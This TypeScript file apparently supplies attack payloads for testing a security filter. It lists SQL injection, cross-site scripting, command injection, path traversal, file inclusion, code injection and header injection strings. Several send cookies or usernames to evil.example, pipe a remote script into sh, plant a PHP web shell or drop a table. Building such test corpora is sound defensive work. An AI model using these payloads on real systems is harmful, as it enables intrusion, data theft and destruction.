/** An attack as a value; it is placed where an exclusion would let it in. */
export interface AttackPayload {
  readonly name: string;
  /** Byte text. */
  readonly value: string;
}

const named = (kind: string, values: readonly string[]): AttackPayload[] =>
  values.map((value, index) => ({ name: `${kind} ${index + 1}`, value }));

/** A few of each kind, as plain as they come: whoever has attacks of their own gives those. */
export const ATTACK_PAYLOADS: readonly AttackPayload[] = [
  ...named('SQL injection', [
    "' OR '1'='1",
    "1' UNION SELECT username, password FROM users -- ",
    "'; DROP TABLE orders; -- ",
    '1 AND (SELECT 7 FROM (SELECT SLEEP(5))x)',
    "admin'/*",
    '1 AND EXTRACTVALUE(1, CONCAT(0x7e, VERSION()))',
  ]),
  ...named('cross-site scripting', [
    '<script>alert(document.cookie)</script>',
    '"><img src=x onerror=alert(1)>',
    '<svg/onload=fetch(`//evil.example/\x24{document.cookie}`)>',
    'javascript:alert(1)//',
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    "';alert(String.fromCharCode(88,83,83))//",
  ]),
  ...named('command injection', [
    '; cat /etc/passwd',
    '| wget http://evil.example/x.sh -O- | sh',
    '`id`',
    '$(curl http://evil.example/$(whoami))',
    '& ping -c 10 127.0.0.1 &',
    '& powershell -enc SQBFAFgA',
  ]),
  ...named('path traversal', [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/proc/self/environ',
    '....//....//etc/shadow',
  ]),
  ...named('file inclusion', [
    'http://198.51.100.7/shell.txt?',
    'php://filter/convert.base64-encode/resource=index.php',
    'file:///etc/passwd',
  ]),
  ...named('code injection', [
    '<?php system($_GET["c"]); ?>',
    '\x24{jndi:ldap://evil.example/a}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '#{T(java.lang.Runtime).getRuntime().exec("id")}',
    'require("child_process").execSync("id")',
    '() { :; }; /bin/bash -c "id"',
    'O:8:"stdClass":1:{s:3:"cmd";s:2:"id";}',
  ]),
  ...named('header injection', ['x\r\nSet-Cookie: admin=1', 'x\r\n\r\n<script>alert(1)</script>']),
];
